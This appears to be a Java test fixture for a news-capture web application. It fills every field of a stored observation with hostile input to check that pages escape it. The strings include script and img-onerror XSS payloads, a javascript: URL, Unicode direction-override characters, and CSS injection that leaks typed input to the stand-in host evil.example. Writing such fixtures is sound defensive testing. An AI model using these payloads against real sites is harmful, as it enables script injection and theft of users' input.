package headwater.http;

import headwater.json.ContextJson;
import headwater.json.ObservationJson;
import headwater.model.Capture;
import headwater.model.Channel;
import headwater.model.Context;
import headwater.model.Count;
import headwater.model.Credit;
import headwater.model.Item;
import headwater.model.Known;
import headwater.model.Observation;
import headwater.model.Relation;
import headwater.model.When;
import headwater.store.CaseStore;
import headwater.store.Receipt;
import headwater.store.Row;
import headwater.store.Store;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

/// A case in which every captured string tries to become part of the page.
public final class HostileCase {

    /// What no page may hold: pictures, handlers, and any script but the one of the pages themselves.
    public static final String FOREIGN =
            "script:not([src=/static/web/workbench.js]), script:not(:empty), img, [onerror], [onclick], [href^=javascript]";

    /// Turns round whatever stands behind it, unless it is kept apart.
    public static final String TURN = "\u202e\u2067";

    /// Asks somebody else for every letter that is typed, if it becomes style.
    private static final String STYLE = "</style><style>@import url(https://evil.example/a);input[value^=a]{background:"
            + "url(https://evil.example/b)}</style><link rel=stylesheet href=https://evil.example/c.css>"
            + "<form action=https://evil.example/d><button autofocus></form>";

    public static final String EVIL = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>" + STYLE + TURN;

    public static final Instant NOW = Instant.parse("2021-09-13T12:00:00Z");

    public static final String SHA = "f".repeat(63) + "e";

    private HostileCase() {}

    /// Long enough to be matched word for word.
    private static final String STORY = "The ministry said on Tuesday that 4,318 barrels were counted at the northern "
            + "depot, twice as many as the harbour office had listed in its last return. " + EVIL
            + " Nobody at the depot could say who had signed for the difference, and the auditor was not told.";

    public static Observation observation() {
        return observation("o-00112233aabbccdd", NOW);
    }

    /// The same words from another outlet, an hour later.
    public static Observation copy() {
        return observation("o-ffeeddccbbaa9988", NOW.plusSeconds(3600));
    }

    private static Observation observation(String id, Instant published) {
        When when = When.at(published, When.Zone.UTC_EPOCH, When.Basis.PLATFORM_EPOCH, EVIL);
        Known<String> evil = Known.ofText(EVIL);
        Relation.Evidence evidence = new Relation.Evidence("text", EVIL, 0, 5);
        return new Observation(
                id,
                new Capture(
                        when,
                        evil,
                        200,
                        Capture.Availability.AVAILABLE,
                        List.of(Capture.Digest.sha256(SHA)),
                        "html" + EVIL,
                        EVIL,
                        new Capture.Collector(EVIL, EVIL, Capture.AccessBasis.OPEN_WEB, EVIL)),
                new Channel("web" + EVIL, Known.ofText(id + EVIL), evil, evil, evil, evil, evil, List.of()),
                new Item(
                        Item.Kind.ARTICLE,
                        evil,
                        Item.Address.of("javascript:alert(3)//" + id),
                        new Item.Body(
                                evil,
                                evil,
                                Known.ofText(STORY),
                                Item.Completeness.FULL,
                                Known.of("zh\"" + EVIL),
                                Item.LanguageBasis.DECLARED),
                        Known.of(when),
                        Known.notStated(),
                        Known.notStated(),
                        new Item.References(
                                List.of(), List.of(), List.of(), List.of(new Item.Mark("ip-country", EVIL, EVIL)))),
                List.of(new Relation(
                        Relation.Type.CITES, Relation.Target.named(EVIL), Relation.Basis.TEXT_PATTERN, evidence)),
                new Credit(
                        Credit.Status.TEXT_CREDITED,
                        Credit.DeclaredOriginal.NOT_DECLARED,
                        List.of(new Credit.Credited(EVIL, evil, evidence)),
                        List.of(EVIL)),
                List.of(Count.exact(Count.Name.READS, 5, EVIL)),
                List.of(new Observation.Warning(EVIL, EVIL, EVIL)));
    }

    public static void make(Path home, String name) {
        try (CaseStore opened = Store.at(home).create(name, NOW)) {
            byte[] bytes = EVIL.getBytes(StandardCharsets.UTF_8);
            Receipt receipt = new Receipt(EVIL, SHA, bytes.length, "", () -> new ByteArrayInputStream(bytes));
            Context question = new Context.Question("question", EVIL, EVIL, EVIL, EVIL);
            opened.write(writer -> {
                long number = writer.begin(receipt, NOW);
                writer.add(new Row(observation().id(), ObservationJson.write(observation())), number, NOW);
                writer.add(new Row(copy().id(), ObservationJson.write(copy())), number, NOW);
                writer.note(new Row("question", ContextJson.write(question)), NOW);
                writer.reject(SHA, new headwater.store.Refusal(EVIL, "BROKEN_RECORD", EVIL));
            });
        }
    }
}
